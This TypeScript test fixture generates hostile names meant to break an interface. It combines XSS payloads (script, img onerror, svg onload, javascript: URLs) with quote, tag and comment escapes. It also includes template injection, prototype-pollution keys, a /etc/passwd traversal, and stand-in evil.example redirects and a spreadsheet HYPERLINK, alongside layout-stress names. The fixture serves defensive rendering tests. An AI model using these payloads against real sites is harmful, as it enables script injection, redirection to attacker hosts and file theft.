/**
 * Names that an attacker would give a breaker: each calls `__ran` where it is taken for markup or
 * code. Quotes, tags and schemes in every combination of context and payload, and names that only
 * break a layout.
 */
const PAYLOADS = [
  '<script>__ran(1)</script>',
  '<img src=x onerror=__ran(2)>',
  '<svg onload=__ran(3)>',
  '<svg><animate onbegin=__ran(4) attributeName=x>',
  '<details open ontoggle=__ran(5)>',
  '<iframe srcdoc="<script>parent.__ran(6)</script>">',
  '<a href=javascript:__ran(7)>x</a>',
  '<math><mi//xlink:href="data:x,<script>__ran(8)</script>">',
  '<style>@import"//evil.example"</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><input name=q>',
  'javascript:__ran(9)',
  'JaVaScRiPt:__ran(10)',
  'data:text/html,<script>__ran(11)</script>',
  '${__ran(12)}',
  '{{constructor.constructor("__ran(13)")()}}',
  '__proto__',
  'constructor',
  '%3Cscript%3E__ran(14)%3C/script%3E',
  '&lt;script&gt;__ran(15)&lt;/script&gt;',
  '<!--<script>__ran(16)//-->',
  ']]><script>__ran(17)</script>',
  '=HYPERLINK("http://evil.example","x")',
  '../../../etc/passwd?x#y',
];

/** Ways out of the place where a name stands: text, attribute, script, comment, URL. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `\`>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</style>${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `--!>${payload}`,
  (payload) => `" onfocus=__ran(18) autofocus x="${payload}`,
  (payload) => `' onmouseover=__ran(19) x='${payload}`,
  (payload) => `");__ran(20);//${payload}`,
  (payload) => `');__ran(21);//${payload}`,
  (payload) => `\\";__ran(22);//${payload}`,
  (payload) => `/${payload}`,
  (payload) => `?q=${payload}`,
  (payload) => `#${payload}`,
  (payload) => `[x](${payload})`,
  (payload) => `مخزن ${payload}`,
  (payload) => `👩‍🚒 ${payload}`,
];

/** 500 different names of at most 128 characters that the agent's door lets in. */
export const HOSTILE_NAMES: readonly string[] = PAYLOADS.flatMap((payload) =>
  CONTEXTS.map((context) => context(payload).slice(0, 128).normalize('NFC').trim()),
);

/** Names that only try the layout: long without a break, right to left, tall, wide. */
export const AWKWARD_NAMES: readonly string[] = [
  'x'.repeat(128),
  'W'.repeat(128),
  'قاطع-الدائرة-للمخزون-الرئيسي-في-المنطقة-الشرقية',
  'מפסק זרם של שירות המלאי 12 (ראשי)',
  '在庫データベースへの呼び出しを守るサーキットブレーカー'.repeat(4),
  '👩‍🚒🧯🔥'.repeat(10),
  `Z${'\u0301\u0327\u0323'.repeat(30)}`,
  'ﷺ'.repeat(40),
].map((name) => name.normalize('NFC'));
